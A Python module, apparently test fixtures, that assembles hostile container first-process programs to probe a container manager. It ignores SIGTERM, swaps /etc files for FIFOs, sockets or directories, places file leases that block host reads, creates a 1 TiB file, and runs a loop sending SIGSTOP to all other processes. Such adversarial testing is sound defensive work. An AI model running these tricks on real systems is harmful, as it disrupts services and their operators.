"""What root inside may do against whoever looks after its container. Python for the image's interpreter.

Each trick stays in force for as long as its process runs; they are combined as the first process of a container.
"""

PRELUDE = """
import ctypes, fcntl, os, signal, socket, stat, subprocess, sys, time
signal.signal(signal.SIGIO, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)

def replace(path, make):
    os.rename(path, path + ".old") if os.path.lexists(path) else None
    make(path)

def ready():
    open("/srv/ready", "w").close()
    print("ready", flush=True)

def lease(path):
    fd = os.open(path, os.O_RDWR | os.O_CREAT)
    fcntl.fcntl(fd, 1024, fcntl.F_WRLCK)
    return fd

def lease_log():
    fcntl.fcntl(1, 1024, fcntl.F_WRLCK)

def keep(path):
    "Hold a lease on a file, also when it is replaced, in a process of its own."
    if os.fork():
        return
    held = {}
    while True:
        try:
            found = os.stat(path)
            if stat.S_ISREG(found.st_mode) and (found.st_dev, found.st_ino) not in held:
                held = {(found.st_dev, found.st_ino): lease(path)}
        except OSError:
            pass
        time.sleep(0.001)

def storm():
    "Stop all others, again and again."
    for _ in range(2):
        if os.fork():
            continue
        while True:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) not in (1, os.getpid()) and not int(name) in STORMERS:
                    try:
                        os.kill(int(name), signal.SIGSTOP)
                    except OSError:
                        pass

STORMERS = ()
"""
END = """
ready()
while True:
    time.sleep(1000)
"""
# What the modules read or write inside, and what may be in its place.
FILES = """
os.mkdir("/etc/hosts.dir"); replace("/etc/hosts", os.mkdir)
replace("/etc/resolv.conf", os.mkfifo)
replace("/etc/hostname", lambda path: socket.socket(socket.AF_UNIX).bind(path))
replace("/etc/group", os.mkdir)
replace("/srv/huge", lambda path: os.truncate(path, 1 << 40) if open(path, "w").close() is None else None)
"""
LEASES = """
lease_log()
for path in ("/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/etc/passwd", "/etc/group"):
    open(path, "a").close()
    keep(path)
"""
# Others of the storm are stopped by it, too: one goes on, which is enough.
STORM = "storm()"


def program(*tricks):
    """The command of a container that plays `tricks`, lines of Python, one after the other."""
    return ["/usr/bin/python3", "-c", "\n".join([PRELUDE, *tricks, END])]
